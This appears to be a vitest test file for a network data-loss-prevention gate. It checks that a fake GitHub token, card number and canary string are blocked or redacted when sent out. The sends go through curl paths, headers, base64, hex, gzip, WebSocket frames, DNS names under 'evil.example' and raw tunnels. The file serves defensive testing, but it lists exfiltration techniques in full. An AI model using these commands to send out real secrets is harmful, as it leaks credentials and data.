import { createHash } from 'node:crypto'
import type { IncomingMessage, ServerResponse } from 'node:http'
import type { Duplex } from 'node:stream'
import { gunzipSync } from 'node:zlib'
import { beforeEach, describe, expect, test } from 'vitest'
import type { NetworkDlp } from '../../wire/index.ts'
import { python } from './gated.ts'
import { inspecting } from './hosted.ts'
import { lookedInto, TLS } from './looked-into.ts'
import { Canary, echo } from './servers.ts'

const GUID = '258EAFA5-E914-47DA-95CA-C5AB0DC85B11'
/** Has the form of a token of GitHub's, and is put together so that nobody takes this file for a leak. */
const TOKEN = `gh${'p_'}${'A1b2C3d4E5f6'.repeat(3)}`
const CARD = `4111 ${'1111 1111'} 1111`
const BAIT = 'kq7vd2mzx4tnw3jh5yrp6bgckq7vd2mz'
const AUDIT_BYTES = 1024 * 1024

const raw: Buffer[] = []
function upgrade(request: IncomingMessage, socket: Duplex): void {
  const accept = createHash('sha1').update(`${request.headers['sec-websocket-key']}${GUID}`).digest('base64')
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`)
  socket.on('error', () => socket.destroy()).on('data', (bytes: Buffer) => raw.push(unmasked(bytes)))
}

/** The one short frame that a test sends. */
function unmasked(bytes: Buffer): Buffer {
  const key = bytes.subarray(2, 6)
  return Buffer.from(bytes.subarray(6).map((byte, at) => byte ^ (key[at % 4] ?? 0)))
}

const spec = lookedInto({ upgrade, serve: (_, given, heard) => void (given as ServerResponse).end(`heard ${heard.body.length}\n`) })
const use = (dlp: NetworkDlp | null, more: { tunnel?: string } = {}) => {
  const { hosted, web } = spec()
  const allow = [`good.example:${web.port}`, '*.evil.example', ...(more.tunnel === undefined ? [] : [more.tunnel])]
  const egress = inspecting({ allow, ...(dlp === null ? {} : { dlp }) })
  hosted.airlock.register(hosted.id, egress, AUDIT_BYTES, [{ name: 'bait', value: BAIT }])
  hosted.airlock.replace(hosted.id, egress)
}
const curl = (options: string, path = '/up') => `curl -sS --max-time 20 ${options} "https://${spec().here}${path}"`
const heard = () => JSON.stringify([spec().web.heard, raw.map((bytes) => bytes.toString('latin1'))])
const records = () => JSON.stringify(spec().hosted.records)

beforeEach(() => {
  raw.splice(0)
  spec().web.heard.splice(0)
  spec().hosted.records.splice(0)
})

/** Each way prints what the server or the gate said. */
const b64 = Buffer.from(TOKEN).toString('base64')
const hex = Buffer.from(TOKEN).toString('hex')
const WAYS: Readonly<Record<string, () => string>> = {
  'in the path': () => curl('', `/up/${TOKEN}`),
  'in the query, as percent': () => curl('', `/up?q=${TOKEN.replaceAll('_', '%5F')}`),
  'in a field': () => curl(`-H "X-Note: ${b64}"`),
  'in a field, HTTP/2': () => curl(`--http2 -H "x-note: ${TOKEN}"`),
  'in a body': () => curl(`-d '{"note":"${TOKEN}"}'`),
  'in a body, HTTP/2': () => curl(`--http2 -d '{"note":"${TOKEN}"}'`),
  'in a body in chunks': () => `(echo start; echo ${TOKEN}; echo end) | ${curl('-H "Transfer-Encoding: chunked" -T -')}`,
  'in base64': () => curl(`-d 'data=${b64}'`),
  'in hex': () => curl(`-d '${hex}'`),
  'in gzip': () => `echo ${TOKEN} | gzip | ${curl('-H "Content-Encoding: gzip" --data-binary @-')}`,
  'in base64 of gzip': () => `(echo -n '{"f":"'; echo ${TOKEN} | gzip | base64 -w0; echo '"}') | ${curl('--data-binary @-')}`,
  'in a form with a file': () => `echo ${TOKEN} >/tmp/file; ${curl('-F "f=@/tmp/file"')}`,
}

test.each(Object.entries(WAYS))(
  '%s: without the wall it arrives; with it, not one byte of the value does, and no log has it',
  async (_, way) => {
    const { hosted } = spec()
    use(null)
    expect(await hosted.sh(way())).toContain('heard')
    expect(spec().web.heard.length).toBe(1)
    spec().web.heard.splice(0)
    hosted.records.splice(0)

    use({})
    const told = await hosted.sh(way())
    expect(told).toContain('"rule":"dlp:github-token"')
    expect(JSON.parse(/\{.*\}/.exec(told)?.[0] ?? '')).toMatchObject({ code: 'NETWORK_DENIED', rule: 'dlp:github-token' })
    for (const form of [TOKEN, b64, hex].map((text) => text.slice(4, 20))) {
      expect(heard()).not.toContain(form)
      expect(records()).not.toContain(form)
      expect(told).not.toContain(form)
    }
    expect(hosted.of('network-dlp')).toContainEqual(
      expect.objectContaining({ detector: 'github-token', name: 'good.example', port: spec().web.port, verdict: 'block' }),
    )
    expect(hosted.of('network-request').at(-1)).toMatchObject({ verdict: 'deny', rule: 'dlp:github-token' })
  },
)

test('what is harmless arrives as it was sent', async () => {
  use({})
  const told = await spec().hosted.sh(
    `head -c 300000 /dev/urandom | base64 >/tmp/up; ${curl('--data-binary @/tmp/up')}; gzip -c /tmp/up | ${curl('-H "Content-Encoding: gzip" --data-binary @-')}; sha256sum </tmp/up`,
  )
  const sum = told.trim().split('\n').at(-1)?.split(' ')[0]
  const [plain, packed] = spec().web.heard.map(({ body }) => Buffer.from(body, 'latin1'))
  expect(
    [plain, packed === undefined ? packed : gunzipSync(packed)].map((bytes) =>
      createHash('sha256')
        .update(bytes ?? '')
        .digest('hex'),
    ),
  ).toEqual([sum, sum])
  expect(spec().hosted.of('network-dlp')).toEqual([])
})

test('redacted, a value arrives as stars, and the body is as long as it was', async () => {
  use({ detectors: { money: 'redact' } })
  const body = `{"card":"${CARD}","ok":true}`
  expect(await spec().hosted.sh(`${curl(`-d '${body}'`)}; ${curl(`--http2 -d '${body}'`)}`)).toBe(
    `heard ${body.length}\nheard ${body.length}\n`,
  )
  for (const one of spec().web.heard) expect(one.body).toBe(`{"card":"${'*'.repeat(CARD.length)}","ok":true}`)
  expect(spec().hosted.of('network-dlp')[0]).toMatchObject({ detector: 'card-number', place: 'body', verdict: 'redact' })
})

test('an alert is recorded, and lets it pass; a budget ends what goes beyond it', async () => {
  use({ detectors: { all: 'alert' }, budgets: { 'good.example': 2000 } })
  expect(await spec().hosted.sh(curl(`-d '${TOKEN}'`))).toBe(`heard ${TOKEN.length}\n`)
  expect(spec().hosted.of('network-dlp')[0]).toMatchObject({ detector: 'github-token', verdict: 'alert' })
  expect(records()).not.toContain(TOKEN.slice(4, 20))
  expect(await spec().hosted.sh(`head -c 3000 /dev/zero | ${curl('--data-binary @-')}`)).toContain('"rule":"dlp:budget"')
})

test('a value in pieces, each in a request of its own, does not get out whole', async () => {
  const pieces = TOKEN.match(/.{1,6}/g) ?? []
  use({})
  const sends = pieces.map((piece, index) => curl(`-d '{"seq":${index},"part":"${piece}"}'`)).join('; ')
  expect(await spec().hosted.sh(sends)).toContain('"rule":"dlp:github-token"')
  const arrived = spec().web.heard.map(({ body }) => /"part":"(\w+)"/.exec(body)?.[1] ?? '')
  expect(arrived.join('').length).toBeLessThan(TOKEN.length - 6)
})

const SOCKET = python`
def message(payload):
    one = secured('good.example', facts['port'])
    one.settimeout(5)
    stream = one.makefile('rb')
    one.sendall(b"GET /ws HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
    while stream.readline().strip():
        pass
    mask = b'\1\2\3\4'
    one.sendall(bytes([129, 128 | len(payload)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(payload)))
    try:
        return stream.read(1)
    except Exception as error:
        return 'open' if 'timed out' in str(error) else 'closed'
attempt('fine', lambda: message(b'nothing to see'))
attempt('value', lambda: message(facts['value'].encode()))
`

test('a message of a web socket is searched: its connection ends', async () => {
  use({})
  const told = await spec().hosted.python(TLS + SOCKET, { port: spec().web.port, value: TOKEN })
  expect(told).toMatch(/^fine open\nvalue b''/)
  expect(heard()).toContain('nothing to see')
  expect(heard()).not.toContain(TOKEN.slice(4, 20))
  expect(spec().hosted.of('network-dlp')).toContainEqual(expect.objectContaining({ place: 'message', verdict: 'block' }))
})

test('a canary is stopped in any form, whatever else is looked for, and told', async () => {
  use({ detectors: { all: 'off' } })
  const forms = [BAIT, BAIT.toUpperCase(), Buffer.from(BAIT).toString('base64'), Buffer.from(BAIT).toString('hex'), BAIT.slice(3, 14)]
  for (const form of forms) expect(await spec().hosted.sh(curl(`-d 'v=${form}'`)), form).toContain('"rule":"dlp:canary:bait"')
  expect(
    spec()
      .hosted.of('network-dlp')
      .filter(({ detector, verdict }) => detector === 'canary:bait' && verdict === 'block'),
  ).toHaveLength(forms.length)
  expect(records()).not.toContain(BAIT.slice(0, 8))
  expect(heard()).not.toContain(BAIT.slice(3, 14))
})

describe('names', () => {
  const ask = (names: readonly string[]) =>
    spec().hosted.python(python`print([resolve(name.encode()) for name in facts['names']])`, { names })

  test('one that carries a value is not asked for; without the wall it is', async () => {
    const { hosted } = spec()
    const name = `${hex.slice(0, 60)}.${hex.slice(60)}.evil.example`
    hosted.names[name] = ['127.0.0.1']
    use(null)
    expect(await ask([name])).toBe('[0]\n')
    expect(hosted.lookedUp).toContain(name)
    hosted.lookedUp.splice(0)
    hosted.records.splice(0)
    use({})
    expect(await ask([name, `${BAIT}.evil.example`])).toBe('[3, 3]\n')
    const proxied = `curl -sS --max-time 20 -x http://127.0.0.1:3128 http://${name}/; curl -sS --max-time 20 -x http://127.0.0.1:3128 https://${BAIT}.evil.example/`
    expect(await hosted.sh(proxied)).toContain('NETWORK_DENIED')
    expect(hosted.lookedUp).toEqual([])
    expect(records()).not.toContain(hex.slice(8, 30))
    expect(records()).not.toContain(BAIT.slice(0, 8))
    expect(hosted.of('network').filter(({ rule }) => rule === 'dlp:github-token')[0]).toMatchObject({
      name: 'evil.example',
      verdict: 'deny',
    })
  })

  test('many of them carry no more than the budget', async () => {
    const { hosted } = spec()
    use({ dnsBytes: 100 })
    const names = Array.from(
      { length: 30 },
      (_, index) => `${createHash('md5').update(String(index)).digest('hex').slice(0, 20)}.evil.example`,
    )
    for (const name of names) hosted.names[name] = ['127.0.0.1']
    expect(JSON.parse(await ask(names))).toEqual([...Array(5).fill(0), ...Array(25).fill(3)])
  })
})

test('what is not HTTP does not leave, but where a rule says that it may be tunnelled', async () => {
  using server = await Canary.open(echo)
  const rule = `good.example:${server.port}`
  const program = python`attempt('said', lambda: exchange(opened('good.example', facts['port']), facts['value'].encode()))`
  const say = () => spec().hosted.python(program, { port: server.port, value: `SSH-2.0 ${TOKEN}\n` })
  use({}, { tunnel: rule })
  expect(await say()).not.toContain(TOKEN)
  expect(server.bytes).toBe(0)
  use({ tunnel: [rule] }, { tunnel: rule })
  expect(await say()).toContain(TOKEN)
})

test('a tunnel, and all of them together, carry no more out than the budget, to the byte; what is not used is given back', async () => {
  using server = await Canary.open(echo)
  const rule = `good.example:${server.port}`
  use({ tunnel: [rule], budgets: { [rule]: 100_000 } }, { tunnel: rule })
  const program = python`
def sent(bytes):
    try:
        return len(exchange(opened('good.example', facts['port']), b'x' * bytes))
    except OSError:
        return 'reset'
waiting = [opened('good.example', facts['port']) for _ in range(3)]
print(sent(60_000), sent(100_000))
for one in waiting:
    one.close()
`
  expect(await spec().hosted.python(program, { port: server.port })).toBe('60000 reset\n')
  const tunnels = spec()
    .hosted.of('network')
    .flatMap(({ port, connection }) => (port === server.port ? [connection] : []))
  const ends = () =>
    spec()
      .hosted.of('network-end')
      .filter(({ connection }) => tunnels.includes(connection))
  await expect.poll(() => ends().length, { timeout: 30_000 }).toBe(5)
  expect(ends().filter(({ why }) => why === 'budget')).toHaveLength(1)
  // Three that said nothing held something back meanwhile.
  expect(server.bytes).toBeGreaterThan(60_000)
  expect(server.bytes).toBeLessThan(100_000)
  const rest = 100_000 - server.bytes
  const next = python`attempt('next', lambda: len(exchange(opened('good.example', facts['port']), b'x' * facts['rest'])))`
  expect(await spec().hosted.python(next, { port: server.port, rest })).toBe(`next ${rest}\n`)
  expect(server.bytes).toBe(100_000)
  const before = server.connections
  expect(await spec().hosted.python(next, { port: server.port, rest: 1 })).toMatch(/ECONNRESET/)
  expect([server.connections, spec().hosted.of('network').at(-1)]).toEqual([before, expect.objectContaining({ rule: 'dlp:budget' })])
})
